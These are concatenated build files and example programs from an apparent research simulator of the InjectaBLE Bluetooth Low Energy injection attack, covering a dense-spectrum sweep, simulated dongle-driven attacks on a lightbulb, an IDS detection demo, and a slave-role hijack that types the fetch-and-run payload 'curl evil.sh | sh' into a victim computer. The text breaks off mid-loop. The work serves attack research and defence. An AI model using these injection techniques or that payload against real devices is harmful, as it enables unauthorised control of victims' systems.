  "CMakeFiles/att_test.dir/server_test.cpp.o"
  "CMakeFiles/att_test.dir/server_test.cpp.o.d"
  "CMakeFiles/att_test.dir/uuid_test.cpp.o"
  "CMakeFiles/att_test.dir/uuid_test.cpp.o.d"
  "att_test"
  "att_test.pdb"
  "att_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/att_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
