# Empty dependencies file for att_test.
# This may be replaced when dependencies are built.
