file(REMOVE_RECURSE
  "CMakeFiles/core_test.dir/csa2_test.cpp.o"
  "CMakeFiles/core_test.dir/csa2_test.cpp.o.d"
  "CMakeFiles/core_test.dir/forge_test.cpp.o"
  "CMakeFiles/core_test.dir/forge_test.cpp.o.d"
  "CMakeFiles/core_test.dir/heuristic_test.cpp.o"
  "CMakeFiles/core_test.dir/heuristic_test.cpp.o.d"
  "CMakeFiles/core_test.dir/hid_injection_test.cpp.o"
  "CMakeFiles/core_test.dir/hid_injection_test.cpp.o.d"
  "CMakeFiles/core_test.dir/injection_test.cpp.o"
  "CMakeFiles/core_test.dir/injection_test.cpp.o.d"
  "CMakeFiles/core_test.dir/scenario_test.cpp.o"
  "CMakeFiles/core_test.dir/scenario_test.cpp.o.d"
  "CMakeFiles/core_test.dir/scenario_variants_test.cpp.o"
  "CMakeFiles/core_test.dir/scenario_variants_test.cpp.o.d"
  "CMakeFiles/core_test.dir/sniffer_test.cpp.o"
  "CMakeFiles/core_test.dir/sniffer_test.cpp.o.d"
  "core_test"
  "core_test.pdb"
  "core_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/core_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
