file(REMOVE_RECURSE
  "CMakeFiles/dongle_test.dir/firmware_test.cpp.o"
  "CMakeFiles/dongle_test.dir/firmware_test.cpp.o.d"
  "CMakeFiles/dongle_test.dir/protocol_test.cpp.o"
  "CMakeFiles/dongle_test.dir/protocol_test.cpp.o.d"
  "dongle_test"
  "dongle_test.pdb"
  "dongle_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/dongle_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
