# Empty compiler generated dependencies file for dongle_test.
# This may be replaced when dependencies are built.
