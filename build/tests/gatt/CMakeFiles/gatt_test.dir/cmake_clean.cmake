file(REMOVE_RECURSE
  "CMakeFiles/gatt_test.dir/builder_test.cpp.o"
  "CMakeFiles/gatt_test.dir/builder_test.cpp.o.d"
  "CMakeFiles/gatt_test.dir/hid_profile_test.cpp.o"
  "CMakeFiles/gatt_test.dir/hid_profile_test.cpp.o.d"
  "CMakeFiles/gatt_test.dir/profiles_test.cpp.o"
  "CMakeFiles/gatt_test.dir/profiles_test.cpp.o.d"
  "gatt_test"
  "gatt_test.pdb"
  "gatt_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gatt_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
