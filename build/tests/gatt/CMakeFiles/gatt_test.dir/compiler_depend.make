# Empty compiler generated dependencies file for gatt_test.
# This may be replaced when dependencies are built.
