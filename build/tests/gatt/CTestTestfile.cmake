# CMake generated Testfile for 
# Source directory: /root/repo/tests/gatt
# Build directory: /root/repo/build/tests/gatt
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/gatt/gatt_test[1]_include.cmake")
