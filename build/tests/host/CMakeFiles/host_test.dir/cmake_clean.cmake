file(REMOVE_RECURSE
  "CMakeFiles/host_test.dir/device_test.cpp.o"
  "CMakeFiles/host_test.dir/device_test.cpp.o.d"
  "CMakeFiles/host_test.dir/encryption_test.cpp.o"
  "CMakeFiles/host_test.dir/encryption_test.cpp.o.d"
  "CMakeFiles/host_test.dir/host_integration_test.cpp.o"
  "CMakeFiles/host_test.dir/host_integration_test.cpp.o.d"
  "CMakeFiles/host_test.dir/l2cap_test.cpp.o"
  "CMakeFiles/host_test.dir/l2cap_test.cpp.o.d"
  "host_test"
  "host_test.pdb"
  "host_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/host_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
