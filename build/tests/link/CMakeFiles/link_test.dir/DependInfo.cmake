
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/link/address_test.cpp" "tests/link/CMakeFiles/link_test.dir/address_test.cpp.o" "gcc" "tests/link/CMakeFiles/link_test.dir/address_test.cpp.o.d"
  "/root/repo/tests/link/adv_pdu_test.cpp" "tests/link/CMakeFiles/link_test.dir/adv_pdu_test.cpp.o" "gcc" "tests/link/CMakeFiles/link_test.dir/adv_pdu_test.cpp.o.d"
  "/root/repo/tests/link/channel_map_test.cpp" "tests/link/CMakeFiles/link_test.dir/channel_map_test.cpp.o" "gcc" "tests/link/CMakeFiles/link_test.dir/channel_map_test.cpp.o.d"
  "/root/repo/tests/link/channel_selection_test.cpp" "tests/link/CMakeFiles/link_test.dir/channel_selection_test.cpp.o" "gcc" "tests/link/CMakeFiles/link_test.dir/channel_selection_test.cpp.o.d"
  "/root/repo/tests/link/connection_test.cpp" "tests/link/CMakeFiles/link_test.dir/connection_test.cpp.o" "gcc" "tests/link/CMakeFiles/link_test.dir/connection_test.cpp.o.d"
  "/root/repo/tests/link/control_pdu_test.cpp" "tests/link/CMakeFiles/link_test.dir/control_pdu_test.cpp.o" "gcc" "tests/link/CMakeFiles/link_test.dir/control_pdu_test.cpp.o.d"
  "/root/repo/tests/link/fuzz_test.cpp" "tests/link/CMakeFiles/link_test.dir/fuzz_test.cpp.o" "gcc" "tests/link/CMakeFiles/link_test.dir/fuzz_test.cpp.o.d"
  "/root/repo/tests/link/pdu_test.cpp" "tests/link/CMakeFiles/link_test.dir/pdu_test.cpp.o" "gcc" "tests/link/CMakeFiles/link_test.dir/pdu_test.cpp.o.d"
  "/root/repo/tests/link/robustness_test.cpp" "tests/link/CMakeFiles/link_test.dir/robustness_test.cpp.o" "gcc" "tests/link/CMakeFiles/link_test.dir/robustness_test.cpp.o.d"
  "/root/repo/tests/link/trace_test.cpp" "tests/link/CMakeFiles/link_test.dir/trace_test.cpp.o" "gcc" "tests/link/CMakeFiles/link_test.dir/trace_test.cpp.o.d"
  "/root/repo/tests/link/update_edge_test.cpp" "tests/link/CMakeFiles/link_test.dir/update_edge_test.cpp.o" "gcc" "tests/link/CMakeFiles/link_test.dir/update_edge_test.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/link/CMakeFiles/ble_link.dir/DependInfo.cmake"
  "/root/repo/build/src/att/CMakeFiles/ble_att.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/ble_crypto.dir/DependInfo.cmake"
  "/root/repo/build/src/dongle/CMakeFiles/injectable_dongle.dir/DependInfo.cmake"
  "/root/repo/build/src/core/CMakeFiles/injectable_core.dir/DependInfo.cmake"
  "/root/repo/build/src/host/CMakeFiles/ble_host.dir/DependInfo.cmake"
  "/root/repo/build/src/phy/CMakeFiles/ble_phy.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/ble_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/gatt/CMakeFiles/ble_gatt.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/ble_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
