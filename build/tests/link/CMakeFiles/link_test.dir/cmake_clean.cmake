file(REMOVE_RECURSE
  "CMakeFiles/link_test.dir/address_test.cpp.o"
  "CMakeFiles/link_test.dir/address_test.cpp.o.d"
  "CMakeFiles/link_test.dir/adv_pdu_test.cpp.o"
  "CMakeFiles/link_test.dir/adv_pdu_test.cpp.o.d"
  "CMakeFiles/link_test.dir/channel_map_test.cpp.o"
  "CMakeFiles/link_test.dir/channel_map_test.cpp.o.d"
  "CMakeFiles/link_test.dir/channel_selection_test.cpp.o"
  "CMakeFiles/link_test.dir/channel_selection_test.cpp.o.d"
  "CMakeFiles/link_test.dir/connection_test.cpp.o"
  "CMakeFiles/link_test.dir/connection_test.cpp.o.d"
  "CMakeFiles/link_test.dir/control_pdu_test.cpp.o"
  "CMakeFiles/link_test.dir/control_pdu_test.cpp.o.d"
  "CMakeFiles/link_test.dir/fuzz_test.cpp.o"
  "CMakeFiles/link_test.dir/fuzz_test.cpp.o.d"
  "CMakeFiles/link_test.dir/pdu_test.cpp.o"
  "CMakeFiles/link_test.dir/pdu_test.cpp.o.d"
  "CMakeFiles/link_test.dir/robustness_test.cpp.o"
  "CMakeFiles/link_test.dir/robustness_test.cpp.o.d"
  "CMakeFiles/link_test.dir/trace_test.cpp.o"
  "CMakeFiles/link_test.dir/trace_test.cpp.o.d"
  "CMakeFiles/link_test.dir/update_edge_test.cpp.o"
  "CMakeFiles/link_test.dir/update_edge_test.cpp.o.d"
  "link_test"
  "link_test.pdb"
  "link_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/link_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
