
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/phy/access_address_test.cpp" "tests/phy/CMakeFiles/phy_test.dir/access_address_test.cpp.o" "gcc" "tests/phy/CMakeFiles/phy_test.dir/access_address_test.cpp.o.d"
  "/root/repo/tests/phy/crc_test.cpp" "tests/phy/CMakeFiles/phy_test.dir/crc_test.cpp.o" "gcc" "tests/phy/CMakeFiles/phy_test.dir/crc_test.cpp.o.d"
  "/root/repo/tests/phy/frame_test.cpp" "tests/phy/CMakeFiles/phy_test.dir/frame_test.cpp.o" "gcc" "tests/phy/CMakeFiles/phy_test.dir/frame_test.cpp.o.d"
  "/root/repo/tests/phy/mode_test.cpp" "tests/phy/CMakeFiles/phy_test.dir/mode_test.cpp.o" "gcc" "tests/phy/CMakeFiles/phy_test.dir/mode_test.cpp.o.d"
  "/root/repo/tests/phy/whitening_test.cpp" "tests/phy/CMakeFiles/phy_test.dir/whitening_test.cpp.o" "gcc" "tests/phy/CMakeFiles/phy_test.dir/whitening_test.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/phy/CMakeFiles/ble_phy.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/ble_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/ble_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
