
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/sim/capture_test.cpp" "tests/sim/CMakeFiles/sim_test.dir/capture_test.cpp.o" "gcc" "tests/sim/CMakeFiles/sim_test.dir/capture_test.cpp.o.d"
  "/root/repo/tests/sim/medium_test.cpp" "tests/sim/CMakeFiles/sim_test.dir/medium_test.cpp.o" "gcc" "tests/sim/CMakeFiles/sim_test.dir/medium_test.cpp.o.d"
  "/root/repo/tests/sim/path_loss_test.cpp" "tests/sim/CMakeFiles/sim_test.dir/path_loss_test.cpp.o" "gcc" "tests/sim/CMakeFiles/sim_test.dir/path_loss_test.cpp.o.d"
  "/root/repo/tests/sim/scheduler_test.cpp" "tests/sim/CMakeFiles/sim_test.dir/scheduler_test.cpp.o" "gcc" "tests/sim/CMakeFiles/sim_test.dir/scheduler_test.cpp.o.d"
  "/root/repo/tests/sim/sleep_clock_test.cpp" "tests/sim/CMakeFiles/sim_test.dir/sleep_clock_test.cpp.o" "gcc" "tests/sim/CMakeFiles/sim_test.dir/sleep_clock_test.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/sim/CMakeFiles/ble_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/ble_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
