// Dense-world campaign: injection success vs. spectrum density.
//
// The paper evaluates the attack against one victim connection in a quiet
// room; the ROADMAP's production-scale question is how the §V race behaves
// when the 2.4 GHz band is *crowded* — advertisers occupying 37/38/39 (so
// the sniffer fights for CONNECT_REQ captures), coexisting connections
// hopping over the same 37 data channels (so injected frames and legitimate
// anchors both risk collisions), and scanners loading the receiver
// population.  This sweep scales a dense preset's crowd and runs the full
// injection campaign at each density.
//
// Usage: dense_world [office|stadium|parking_lot] [scale,scale,...]
//   default: office at scales 0,0.5,1,2
// Honours the standard observability env vars (INJECTABLE_RUNS,
// INJECTABLE_JSON, INJECTABLE_TRACE_DIR, ...), so the CI smoke step can run
// a small, fully traced campaign and replay it byte-for-byte.
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "world/experiment.hpp"

using namespace injectable::world;

int main(int argc, char** argv) {
    const std::string preset = argc > 1 ? argv[1] : "office";
    WorldSpec base;
    if (preset == "office") {
        base = WorldSpec::office();
    } else if (preset == "stadium") {
        base = WorldSpec::stadium();
    } else if (preset == "parking_lot") {
        base = WorldSpec::parking_lot();
    } else {
        std::fprintf(stderr, "unknown preset '%s' (office|stadium|parking_lot)\n",
                     preset.c_str());
        return 2;
    }

    std::vector<double> scales = {0.0, 0.5, 1.0, 2.0};
    if (argc > 2) {
        scales.clear();
        const char* p = argv[2];
        char* end = nullptr;
        while (*p != '\0') {
            scales.push_back(std::strtod(p, &end));
            if (end == p) break;
            p = (*end == ',') ? end + 1 : end;
        }
        if (scales.empty()) {
            std::fprintf(stderr, "bad scale list '%s'\n", argv[2]);
            return 2;
        }
    }

    std::printf("=== Dense world: injection success vs. density (%s preset) ===\n",
                preset.c_str());
    std::printf("crowd at each scale shares the preset mix; scale 0 = paper baseline\n\n");
    print_stats_header("crowd devices");

    bool all_ran = true;
    for (std::size_t i = 0; i < scales.size(); ++i) {
        ExperimentConfig config;
        char name[64];
        std::snprintf(name, sizeof(name), "dense-%s-x%g", preset.c_str(), scales[i]);
        config.name = name;
        config.world = base;
        config.world.dense = base.dense.scaled(scales[i]);
        config.base_seed = 9000 + 100 * static_cast<std::uint64_t>(i);
        const auto results = run_series(config);
        const Stats stats = summarize(results);
        char label[48];
        std::snprintf(label, sizeof(label), "%d (x%g)",
                      config.world.dense.device_count(), scales[i]);
        print_stats_row(label, stats);
        if (stats.n == 0) all_ran = false;
    }
    std::printf(
        "\nExpected shape: success stays high but attempts climb with density —\n"
        "the race tolerates contention (a lost attempt just retries next event),\n"
        "while CONNECT_REQ sniffing and anchor capture degrade gracefully.\n");
    return all_ran ? 0 : 1;
}
