// Driving the attack through the dongle protocol (paper §V-E): the host and
// the "firmware" communicate only through serialized command/notification
// frames, like the real nRF52840 proof of concept behind its USB link.
#include <cstdio>

#include "core/forge.hpp"
#include "dongle/firmware.hpp"
#include "world/world.hpp"

using namespace ble;
using namespace injectable;

int main() {
    world::WorldSpec spec;
    spec.seed = 9;
    spec.supervision_timeout = 300;
    spec.master_clock_ppm = 20.0;
    spec.master_sca_ppm = 0.0;
    spec.master_traffic_every_events = 0;
    spec.attacker_name = "dongle";
    world::World world(spec);

    // The "USB link": command frames down, notification frames up.  The
    // firmware owns the attacker radio; the world arms no sniffer of its own.
    dongle::Firmware firmware(*world.attacker);
    dongle::HostDriver host([&](const Bytes& wire) { firmware.handle_command(wire); });
    firmware.set_notify_sink([&](const Bytes& wire) { host.handle_notification(wire); });

    std::optional<SniffedConnection> detected;
    host.on_connection = [&](const SniffedConnection& conn) {
        std::printf("[%8.1f ms] host <- CONNECTION_DETECTED AA=0x%08x hop=%u\n",
                    to_ms(world.scheduler.now()), conn.params.access_address,
                    conn.params.hop_interval);
        detected = conn;
    };
    host.on_attempt = [&](int attempt, bool success) {
        std::printf("[%8.1f ms] host <- INJECTION_REPORT attempt=%d %s\n",
                    to_ms(world.scheduler.now()), attempt, success ? "SUCCESS" : "failed");
    };
    std::optional<bool> done;
    host.on_done = [&](bool success, int attempts) {
        std::printf("[%8.1f ms] host <- INJECTION_DONE success=%d attempts=%d\n",
                    to_ms(world.scheduler.now()), success, attempts);
        done = success;
    };
    host.on_error = [&](const std::string& error) {
        std::printf("[%8.1f ms] host <- ERROR \"%s\"\n", to_ms(world.scheduler.now()),
                    error.c_str());
    };

    std::printf("[%8.1f ms] host -> START_ADV_SNIFFER\n", to_ms(world.scheduler.now()));
    host.start_adv_sniffer();
    world.begin_connection();
    world.run_until(5_s, [&] { return detected && world.central->connected(); });
    if (!detected) return 1;

    std::printf("[%8.1f ms] host -> FOLLOW\n", to_ms(world.scheduler.now()));
    host.follow();
    world.run_for(400_ms);

    std::printf("[%8.1f ms] host -> INJECT (bulb off)\n", to_ms(world.scheduler.now()));
    host.inject(link::Llid::kDataStart,
                att_over_l2cap(att::make_write_req(
                    world.bulb.control_handle(),
                    gatt::LightbulbProfile::cmd_set_power(false))),
                50);
    world.run_until(60_s, [&] { return done.has_value(); });

    std::printf("\nresult: bulb is %s\n", world.bulb.state().powered ? "still on" : "OFF");
    return world.bulb.state().powered ? 1 : 0;
}
