// Driving the attack through the dongle protocol (paper §V-E): the host and
// the "firmware" communicate only through serialized command/notification
// frames, like the real nRF52840 proof of concept behind its USB link.
#include <cstdio>

#include "core/forge.hpp"
#include "dongle/firmware.hpp"
#include "gatt/profiles.hpp"
#include "host/central.hpp"
#include "host/peripheral.hpp"

using namespace ble;
using namespace injectable;

int main() {
    Rng rng(9);
    sim::Scheduler scheduler;
    sim::RadioMedium medium(scheduler, rng.fork(), sim::PathLossModel{});

    host::PeripheralConfig bulb_cfg;
    bulb_cfg.name = "bulb";
    host::Peripheral bulb_device(scheduler, medium, rng.fork(), bulb_cfg);
    gatt::LightbulbProfile bulb;
    bulb.install(bulb_device.att_server());

    host::CentralConfig phone_cfg;
    phone_cfg.name = "phone";
    phone_cfg.radio.position = {2.0, 0.0};
    host::Central phone(scheduler, medium, rng.fork(), phone_cfg);

    sim::RadioDeviceConfig dongle_cfg;
    dongle_cfg.name = "dongle";
    dongle_cfg.position = {1.0, 1.732};
    AttackerRadio dongle_radio(scheduler, medium, rng.fork(), dongle_cfg);

    // The "USB link": command frames down, notification frames up.
    dongle::Firmware firmware(dongle_radio);
    dongle::HostDriver host([&](const Bytes& wire) { firmware.handle_command(wire); });
    firmware.set_notify_sink([&](const Bytes& wire) { host.handle_notification(wire); });

    std::optional<SniffedConnection> detected;
    host.on_connection = [&](const SniffedConnection& conn) {
        std::printf("[%8.1f ms] host <- CONNECTION_DETECTED AA=0x%08x hop=%u\n",
                    to_ms(scheduler.now()), conn.params.access_address,
                    conn.params.hop_interval);
        detected = conn;
    };
    host.on_attempt = [&](int attempt, bool success) {
        std::printf("[%8.1f ms] host <- INJECTION_REPORT attempt=%d %s\n",
                    to_ms(scheduler.now()), attempt, success ? "SUCCESS" : "failed");
    };
    std::optional<bool> done;
    host.on_done = [&](bool success, int attempts) {
        std::printf("[%8.1f ms] host <- INJECTION_DONE success=%d attempts=%d\n",
                    to_ms(scheduler.now()), success, attempts);
        done = success;
    };
    host.on_error = [&](const std::string& error) {
        std::printf("[%8.1f ms] host <- ERROR \"%s\"\n", to_ms(scheduler.now()),
                    error.c_str());
    };

    std::printf("[%8.1f ms] host -> START_ADV_SNIFFER\n", to_ms(scheduler.now()));
    host.start_adv_sniffer();
    bulb_device.start();
    link::ConnectionParams params;
    params.hop_interval = 36;
    params.timeout = 300;
    phone.connect(bulb_device.address(), params);
    while (scheduler.now() < 5_s && !(detected && phone.connected())) {
        if (!scheduler.run_one()) break;
    }
    if (!detected) return 1;

    std::printf("[%8.1f ms] host -> FOLLOW\n", to_ms(scheduler.now()));
    host.follow();
    scheduler.run_until(scheduler.now() + 400_ms);

    std::printf("[%8.1f ms] host -> INJECT (bulb off)\n", to_ms(scheduler.now()));
    host.inject(link::Llid::kDataStart,
                att_over_l2cap(att::make_write_req(
                    bulb.control_handle(), gatt::LightbulbProfile::cmd_set_power(false))),
                50);
    while (scheduler.now() < 60_s && !done) {
        if (!scheduler.run_one()) break;
    }

    std::printf("\nresult: bulb is %s\n", bulb.state().powered ? "still on" : "OFF");
    return bulb.state().powered ? 1 : 0;
}
