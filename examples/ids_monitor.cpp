// Counter-measure demo (paper §VIII): a passive Link-Layer IDS watches the
// connection while an InjectaBLE attacker strikes, and raises alerts on the
// injection signatures (anchor timing anomalies, CRC bursts, spurious
// terminates, double anchors).
#include <cstdio>
#include <variant>

#include "core/scenarios.hpp"
#include "ids/detector.hpp"
#include "obs/bus.hpp"
#include "world/world.hpp"

using namespace ble;
using namespace injectable;

int main() {
    world::WorldSpec spec;
    spec.seed = 12;
    spec.supervision_timeout = 300;
    spec.master_clock_ppm = 20.0;
    spec.master_sca_ppm = 0.0;
    spec.master_traffic_every_events = 0;
    world::World world(spec);

    const auto probe = world.make_attacker("ids-probe", {0.5, -1.0});

    // Both the attacker and the defender sniff the CONNECT_REQ.
    AdvSniffer ids_sniffer(*probe);
    std::optional<SniffedConnection> ids_cap;
    ids_sniffer.on_connection = [&](const SniffedConnection& c,
                                    const link::ConnectReqPdu&) { ids_cap = c; };
    ids_sniffer.start();
    const auto attack_cap =
        world.establish_and_sniff(5_s, [&] { return ids_cap.has_value(); });
    ids_sniffer.stop();
    if (!attack_cap || !ids_cap) return 1;

    ids::InjectionDetector detector(*probe, *ids_cap);
    // Alerts arrive on the world's event bus — no detector callback needed.
    obs::ScopedSubscription alert_sub(world.bus(), [&](const obs::Event& event) {
        const auto* alert = std::get_if<obs::IdsAlert>(&event);
        if (alert == nullptr) return;
        std::printf("[%8.1f ms] IDS    *** %.*s (event %u): %.*s\n", to_ms(alert->time),
                    static_cast<int>(alert->type_name.size()), alert->type_name.data(),
                    alert->event_counter, static_cast<int>(alert->detail.size()),
                    alert->detail.data());
    });
    detector.start();
    std::printf("[%8.1f ms] IDS    monitoring connection AA=0x%08x\n",
                to_ms(world.scheduler.now()), ids_cap->params.access_address);

    // A quiet benign period first: the IDS should stay silent.
    world.run_for(3_s);
    std::printf("[%8.1f ms] IDS    %lu benign events observed, %d alerts\n",
                to_ms(world.scheduler.now()),
                static_cast<unsigned long>(detector.events_observed()),
                detector.alerts_raised());

    // Now the attack: scenario C (master hijack via forged CONNECTION_UPDATE).
    AttackSession& session = world.start_session(400_ms);
    std::printf("[%8.1f ms] ATTACK starting master hijack\n",
                to_ms(world.scheduler.now()));
    ScenarioC scenario(session);
    std::optional<ScenarioC::Result> result;
    scenario.execute([&](const ScenarioC::Result& r) { result = r; });
    world.run_until(120_s, [&] { return result.has_value(); });
    world.run_for(3_s);

    std::printf("\nresult: attack %s; IDS raised %d alert(s)\n",
                result && result->success ? "succeeded" : "failed",
                detector.alerts_raised());
    return (result && result->success && detector.alerts_raised() > 0) ? 0 : 1;
}
