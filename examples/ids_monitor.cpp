// Counter-measure demo (paper §VIII): a passive Link-Layer IDS watches the
// connection while an InjectaBLE attacker strikes, and raises alerts on the
// injection signatures (anchor timing anomalies, CRC bursts, spurious
// terminates, double anchors).
#include <cstdio>

#include "core/scenarios.hpp"
#include "core/sniffer.hpp"
#include "gatt/profiles.hpp"
#include "host/central.hpp"
#include "host/peripheral.hpp"
#include "ids/detector.hpp"

using namespace ble;
using namespace injectable;

int main() {
    Rng rng(12);
    sim::Scheduler scheduler;
    sim::RadioMedium medium(scheduler, rng.fork(), sim::PathLossModel{});

    host::PeripheralConfig bulb_cfg;
    bulb_cfg.name = "bulb";
    host::Peripheral bulb_device(scheduler, medium, rng.fork(), bulb_cfg);
    gatt::LightbulbProfile bulb;
    bulb.install(bulb_device.att_server());

    host::CentralConfig phone_cfg;
    phone_cfg.name = "phone";
    phone_cfg.radio.position = {2.0, 0.0};
    host::Central phone(scheduler, medium, rng.fork(), phone_cfg);

    sim::RadioDeviceConfig attacker_cfg;
    attacker_cfg.name = "attacker";
    attacker_cfg.position = {1.0, 1.732};
    AttackerRadio attacker(scheduler, medium, rng.fork(), attacker_cfg);

    sim::RadioDeviceConfig probe_cfg;
    probe_cfg.name = "ids-probe";
    probe_cfg.position = {0.5, -1.0};
    AttackerRadio probe(scheduler, medium, rng.fork(), probe_cfg);

    // Both the attacker and the defender sniff the CONNECT_REQ.
    AdvSniffer attack_sniffer(attacker);
    AdvSniffer ids_sniffer(probe);
    std::optional<SniffedConnection> attack_cap, ids_cap;
    attack_sniffer.on_connection = [&](const SniffedConnection& c,
                                       const link::ConnectReqPdu&) { attack_cap = c; };
    ids_sniffer.on_connection = [&](const SniffedConnection& c,
                                    const link::ConnectReqPdu&) { ids_cap = c; };
    attack_sniffer.start();
    ids_sniffer.start();

    bulb_device.start();
    link::ConnectionParams params;
    params.hop_interval = 36;
    params.timeout = 300;
    phone.connect(bulb_device.address(), params);
    while (scheduler.now() < 5_s && !(attack_cap && ids_cap && phone.connected())) {
        if (!scheduler.run_one()) break;
    }
    if (!attack_cap || !ids_cap || !phone.connected()) return 1;
    attack_sniffer.stop();
    ids_sniffer.stop();

    ids::InjectionDetector detector(probe, *ids_cap);
    detector.on_alert = [&](const ids::Alert& alert) {
        std::printf("[%8.1f ms] IDS    *** %s (event %u): %s\n", to_ms(scheduler.now()),
                    ids::alert_type_name(alert.type), alert.event_counter,
                    alert.detail.c_str());
    };
    detector.start();
    std::printf("[%8.1f ms] IDS    monitoring connection AA=0x%08x\n",
                to_ms(scheduler.now()), ids_cap->params.access_address);

    // A quiet benign period first: the IDS should stay silent.
    scheduler.run_until(scheduler.now() + 3_s);
    std::printf("[%8.1f ms] IDS    %lu benign events observed, %d alerts\n",
                to_ms(scheduler.now()),
                static_cast<unsigned long>(detector.events_observed()),
                detector.alerts_raised());

    // Now the attack: scenario C (master hijack via forged CONNECTION_UPDATE).
    AttackSession session(attacker, *attack_cap);
    session.start();
    scheduler.run_until(scheduler.now() + 400_ms);
    std::printf("[%8.1f ms] ATTACK starting master hijack\n", to_ms(scheduler.now()));
    ScenarioC scenario(session);
    std::optional<ScenarioC::Result> result;
    scenario.execute([&](const ScenarioC::Result& r) { result = r; });
    while (scheduler.now() < 120_s && !result) {
        if (!scheduler.run_one()) break;
    }
    scheduler.run_until(scheduler.now() + 3_s);

    std::printf("\nresult: attack %s; IDS raised %d alert(s)\n",
                result && result->success ? "succeeded" : "failed",
                detector.alerts_raised());
    return (result && result->success && detector.alerts_raised() > 0) ? 0 : 1;
}
