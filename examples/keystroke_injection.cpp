// The paper's future work (§IX), end to end: hijack the Slave role, swap in a
// malicious HID-over-GATT keyboard profile, and type into the Master.
//
// "being able to hijack the Slave role may potentially allow an attacker to
//  transmit an ATT notification ... expose a malicious keyboard profile
//  instead of the original one, and inject keystrokes to the Master"
#include <cstdio>

#include "core/scenarios.hpp"
#include "world/world.hpp"

using namespace ble;
using namespace injectable;

int main() {
    world::WorldSpec spec;
    spec.seed = 21;
    spec.hop_interval = 24;  // HID links run fast (30 ms)
    spec.supervision_timeout = 300;
    spec.master_clock_ppm = 20.0;
    spec.master_sca_ppm = 0.0;
    spec.master_traffic_every_events = 0;
    spec.profile = world::VictimProfile::kNone;  // the victim is a keyboard
    spec.peripheral_name = "keyboard";
    spec.central_name = "computer";
    world::World world(spec);

    // The victim peripheral is a benign keyboard; the "computer" (Central)
    // types whatever HID reports arrive on the report characteristic.
    gatt::HidKeyboardProfile benign_keyboard;
    benign_keyboard.install(world.peripheral->att_server(), "Logitech K380");

    std::string typed;
    world.central->gatt().on_notification = [&](std::uint16_t handle,
                                                const Bytes& value) {
        if (handle != benign_keyboard.report_handle()) return;
        const char c = gatt::HidKeyboardProfile::decode_report(value);
        if (c != 0) {
            typed.push_back(c);
            if (c == '\n') {
                std::printf("[%8.1f ms] COMPUTER received line: %s",
                            to_ms(world.scheduler.now()), typed.c_str());
            }
        }
    };

    if (!world.establish_and_sniff(5_s)) return 1;
    std::printf("[%8.1f ms] computer <-> keyboard connected; attacker synchronised\n",
                to_ms(world.scheduler.now()));

    AttackSession& session = world.start_session(400_ms);

    // The forged device mirrors the keyboard's GATT layout (same handles), so
    // the computer's existing subscriptions keep working.
    att::AttServer fake;
    gatt::HidKeyboardProfile forged_keyboard;
    forged_keyboard.install(fake, "Logitech K380");

    ScenarioB scenario(session, fake);
    std::optional<ScenarioB::Result> result;
    scenario.execute([&](const ScenarioB::Result& r) { result = r; });
    world.run_until(60_s, [&] { return result.has_value(); });
    if (!result || !result->success) {
        std::printf("hijack failed\n");
        return 1;
    }
    std::printf("[%8.1f ms] ATTACK  slave hijacked in %d attempt(s); forged keyboard "
                "online\n",
                to_ms(world.scheduler.now()), result->attempts);
    world.run_for(500_ms);

    const std::string payload = "curl evil.sh | sh\n";
    std::printf("[%8.1f ms] ATTACK  typing: curl evil.sh | sh\n",
                to_ms(world.scheduler.now()));
    for (char c : payload) {
